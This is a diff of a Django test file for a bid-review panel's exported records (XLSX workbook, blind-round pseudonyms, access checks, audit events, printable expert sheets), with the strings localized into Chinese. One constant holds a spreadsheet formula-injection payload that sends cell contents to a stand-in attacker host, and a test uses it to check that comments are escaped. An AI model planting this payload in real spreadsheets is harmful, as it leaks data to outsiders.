@@ -1,21 +1,23 @@
 """The panel's records: the workbook (XLSX) of every submitted sheet, the consensus and the
 ranking for the chair and, after the consensus, the publisher; the printable sheet an expert
-signs. Identity stays hidden from experts in a blind round, a formula typed in a comment stays
-text, each read is audited, and nobody else learns the records exist."""
+signs; all as the site serves them (in Chinese). Identity stays hidden from experts in a blind
+round, a formula typed in a comment stays text, each read is audited, and nobody else learns
+the records exist."""
 
 import io
 from decimal import Decimal
 
 import pytest
+from django.contrib.auth import get_user_model
 from openpyxl import load_workbook
 
-from scenarios.models import AuditEvent
+from scenarios.models import AuditEvent, PublisherMembership
 from selection import services
+from selection.exports import record_links
 from selection.models import Consensus, Panel
+from tests.factories import OrganizationFactory
 
 from .conftest import full_scores
-
-pytestmark = pytest.mark.usefixtures("messages_in_english")
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"详情")'
 
@@ -54,12 +56,12 @@ def test_the_chairs_workbook_has_a_row_per_expert_bid_and_criterion(
 ):
     client.force_login(experts[0].user)
     book = workbook(client, scored_panel)
-    assert book.sheetnames == ["Scores", "Sheet totals", "Consensus", "Ranking"]
-    rows = list(book["Scores"].iter_rows(min_row=2, values_only=True))
+    assert book.sheetnames == ["评分明细", "专家评分汇总", "合议", "排名"]
+    rows = list(book["评分明细"].iter_rows(min_row=2, values_only=True))
     criteria = scored_panel.criteria.count()
     assert len(rows) == 3 * len(bids) * criteria
     assert {row[3] for row in rows} == {expert.name for expert in experts[:3]}
-    assert len(list(book["Sheet totals"].iter_rows(min_row=2))) == 3 * len(bids)
+    assert len(list(book["专家评分汇总"].iter_rows(min_row=2))) == 3 * len(bids)
     read = AuditEvent.objects.get(actor=experts[0].user, detail__record="records_xlsx")
     assert read.opportunity_id == scored_panel.opportunity_id
 
@@ -73,7 +75,7 @@ def test_the_publisher_reads_the_records_only_after_the_consensus(
     assert client.get(f"/review/{scored_panel.pk}/records.xlsx").status_code == 404
     services.panel_advance(scored_panel, publisher, Panel.Stage.DECISION)
     book = workbook(client, scored_panel)
-    ranking = list(book["Ranking"].iter_rows(min_row=2, values_only=True))
+    ranking = list(book["排名"].iter_rows(min_row=2, values_only=True))
     assert [(row[1], row[3], row[4]) for row in ranking] == [
         (1, bids[1].bidder_name, 88),
         (2, bids[0].bidder_name, 71.5),
@@ -91,26 +93,37 @@ def test_in_a_blind_round_the_chairs_records_name_no_bidder(client, scored_panel
         assert bid.bidder_name not in everything
         assert bid.company.name not in everything
         assert bid.receipt_number not in everything
-    assert "Bidder A" in everything
-    assert "Bidder B" in everything
+    assert "申报方 A" in everything
+    assert "申报方 B" in everything
 
 
 def test_a_comment_typed_as_a_formula_is_text_in_the_workbook(client, scored_panel, experts):
     client.force_login(experts[0].user)
     book = workbook(client, scored_panel)
-    comments = [row[9] for row in book["Scores"].iter_rows(min_row=2) if row[3].value == "陈立"]
+    comments = [row[9] for row in book["评分明细"].iter_rows(min_row=2) if row[3].value == "陈立"]
     assert comments
     for cell in comments:
         assert cell.value == "'" + FORMULA
         assert cell.data_type == "s"
 
 
+@pytest.fixture
+def other_publisher(db):
+    user = get_user_model().objects.create_user("publisher_dl", "dl@example.cn", "x")
+    PublisherMembership.objects.create(
+        user=user, organization=OrganizationFactory(name="大连高新区管委会")
+    )
+    return user
+
+
 def test_records_are_404_for_members_bidders_and_other_publishers(
-    client, scored_panel, experts, company_a
+    client, scored_panel, experts, company_a, publisher, other_publisher
 ):
-    for user in (experts[1].user, experts[3].user, company_a[1]):
+    services.panel_advance(scored_panel, publisher, Panel.Stage.DECISION)
+    for user in (experts[1].user, experts[3].user, company_a[1], other_publisher):
         client.force_login(user)
         assert client.get(f"/review/{scored_panel.pk}/records.xlsx").status_code == 404
+    assert not AuditEvent.objects.filter(detail__record="records_xlsx").exists()
 
 
 def print_url(panel, member):
@@ -127,7 +140,7 @@ def test_an_expert_prints_its_own_sheet_to_sign(client, scored_panel, bids, expe
     assert experts[1].name in html
     assert experts[1].affiliation in html
     assert member.declaration_text[:20] in html
-    assert "s signature" in html
+    assert "专家签字" in html
     for bid in bids:
         assert bid.bidder_name in html
     assert 'href="/review/"' not in html  # no navigation on the printed page
@@ -136,10 +149,10 @@ def test_an_expert_prints_its_own_sheet_to_sign(client, scored_panel, bids, expe
 
 
 def test_the_print_page_is_404_for_another_expert_and_for_a_bidder(
-    client, scored_panel, experts, company_a
+    client, scored_panel, experts, company_a, other_publisher
 ):
     member = scored_panel.members.get(expert=experts[1])
-    for user in (experts[2].user, experts[3].user, company_a[1]):
+    for user in (experts[2].user, experts[3].user, company_a[1], other_publisher):
         client.force_login(user)
         assert client.get(print_url(scored_panel, member)).status_code == 404, user
 
@@ -159,8 +172,31 @@ def test_a_blind_round_prints_pseudonyms_only(client, scored_panel, bids, expert
     member = scored_panel.members.get(expert=experts[1])
     client.force_login(experts[1].user)
     html = client.get(print_url(scored_panel, member)).content.decode()
-    assert "Bidder A" in html
-    assert "Bidder B" in html
+    assert "申报方 A" in html
+    assert "申报方 B" in html
     for bid in bids:
         assert bid.bidder_name not in html
         assert bid.receipt_number not in html
+
+
+def test_the_publisher_prints_a_members_sheet_after_the_consensus_only(
+    client, scored_panel, experts, publisher
+):
+    member = scored_panel.members.get(expert=experts[1])
+    client.force_login(publisher)
+    assert client.get(print_url(scored_panel, member)).status_code == 404
+    services.panel_advance(scored_panel, publisher, Panel.Stage.DECISION)
+    response = client.get(print_url(scored_panel, member))
+    assert response.status_code == 200
+    assert experts[1].name in response.content.decode()
+
+
+def test_record_links_offer_each_reader_what_it_may_open(scored_panel, experts, publisher):
+    chair_links = record_links(experts[0].user, scored_panel)
+    assert f"/review/{scored_panel.pk}/records.xlsx" in [link["url"] for link in chair_links]
+    assert len(chair_links) == 1 + scored_panel.members.count()
+    member_links = record_links(experts[1].user, scored_panel)
+    own = scored_panel.members.get(expert=experts[1])
+    assert [link["url"] for link in member_links] == [print_url(scored_panel, own)]
+    assert record_links(publisher, scored_panel) == []
+    assert record_links(experts[3].user, scored_panel) == []
